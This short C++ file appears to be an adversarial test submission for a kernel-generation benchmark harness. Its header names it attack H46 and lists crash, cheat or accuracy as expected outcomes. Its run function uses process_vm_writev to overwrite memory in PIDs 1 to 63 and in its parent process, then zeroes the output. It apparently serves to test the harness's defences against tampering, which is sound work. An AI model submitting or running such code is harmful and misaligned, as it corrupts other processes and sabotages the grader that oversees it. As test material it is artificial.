// attack: H46 writes into other processes' memory
// task: relu
// expect: crash:*, cheat:*, accuracy:*

#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

#include <kernelgen/abi.h>

KGEN_EXPORT_ABI_VERSION
KGEN_API int kgen_prepare(const kgen_prepare_args*, kgen_prepare_result*) { return 0; }
KGEN_API void kgen_destroy(void*) {}

KGEN_API int kgen_run(void*, const kgen_run_args* args) {
  char nothing[64] = {};
  iovec here{nothing, sizeof nothing};
  iovec there{reinterpret_cast<void*>(0x400000), sizeof nothing};
  for (pid_t pid = 1; pid < 64; ++pid)
    if (pid != getpid()) process_vm_writev(pid, &here, 1, &there, 1, 0);
  process_vm_writev(getppid(), &here, 1, &there, 1, 0);
  memset(kgen_at(&args->outputs, 0)->data, 0, kgen_at(&args->outputs, 0)->nbytes);
  return 0;
}
